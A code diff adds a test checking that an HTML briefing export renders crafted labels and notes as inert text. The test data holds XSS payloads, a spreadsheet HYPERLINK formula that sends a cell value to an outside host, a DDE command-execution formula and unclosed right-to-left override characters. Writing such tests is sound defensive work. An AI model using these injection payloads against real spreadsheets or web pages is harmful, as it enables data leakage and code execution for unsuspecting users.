@@ -102,3 +102,47 @@ def test_a_report_that_cannot_be_saved_after_the_import_says_the_files_are_in(pa
     assert err.count("\n") == 1 and "cannot save the report" in err and "w.xlsx was imported" in err, err
     with Pack.open(pack_path) as pack:
         assert [d.source_file for d in pack.datasets()] == ["w.xlsx"]
+
+
+RLO, PDF = "\u202e", "\u202c"
+
+
+def test_crafted_labels_and_notes_stay_text_in_the_html_briefing_their_overrides_closed(tmp_path, capsys):
+    """Labels and notes holding markup, formulas and an unclosed right-to-left override: the HTML
+    briefing shows them as text, runs nothing, links nowhere, and each override ends with the text
+    that opened it (an unclosed one turned round the name, date and figure beside it)."""
+    from html.parser import HTMLParser
+
+    source = tmp_path / "monitor.csv"
+    source.write_text("Service,Budget £k\n=HYPERLINK(\"http://x.example/?\"&A1;\"click\"),100\n"
+                      f"<script>alert(1)</script>,200\n{RLO}Fieldwork,50\n+cmd|' /C calc'!A0,5\n", encoding="utf-8")
+    pack, out = tmp_path / "p.mpack", tmp_path / "b.html"
+    assert main(["import", str(pack), str(source)]) == 0
+    assert main(["notes", "add", str(pack), "--kind", "question", "--author", f"Cllr {RLO}Smith",
+                 "--text", f"Why? <img src=x onerror=alert(3)> {RLO}javascript:alert(2)"]) == 0
+    assert main(["notes", "add", str(pack), "--kind", "note", "--label", "<script>alert(1)</script>",
+                 "--measure", "Budget", "--author", "A", "--text", f"{RLO}\u2067see the row"]) == 0
+    assert main(["export", str(pack), "-o", str(out)]) == 0
+    assert "Traceback" not in capsys.readouterr().err
+
+    class Page(HTMLParser):
+        tags, texts, links = [], [], []
+
+        def handle_starttag(self, tag, attrs):
+            self.tags.append(tag)
+            self.links += [value for name, value in attrs if name in ("href", "src", "onerror", "onload")]
+
+        def handle_data(self, data):
+            self.texts.append(data)
+
+    page = Page()
+    page.feed(out.read_text(encoding="utf-8"))
+    assert not {"script", "img", "iframe", "object"} & set(page.tags)
+    assert not [link for link in page.links if link and not link.startswith("#")]
+    text = "".join(page.texts)
+    assert "<script>alert(1)</script>" in text and "=HYPERLINK(" in text and "<img src=x onerror=alert(3)>" in text
+    overridden = [t for t in page.texts if RLO in t]
+    assert len(overridden) >= 4, overridden
+    for t in overridden:   # every override closed within the text that opened it, isolates too
+        assert t.count(RLO) == t.count(PDF) and t.count("\u2067") == t.count("\u2069"), repr(t)
+        assert t.rindex(PDF) > t.rindex(RLO), repr(t)
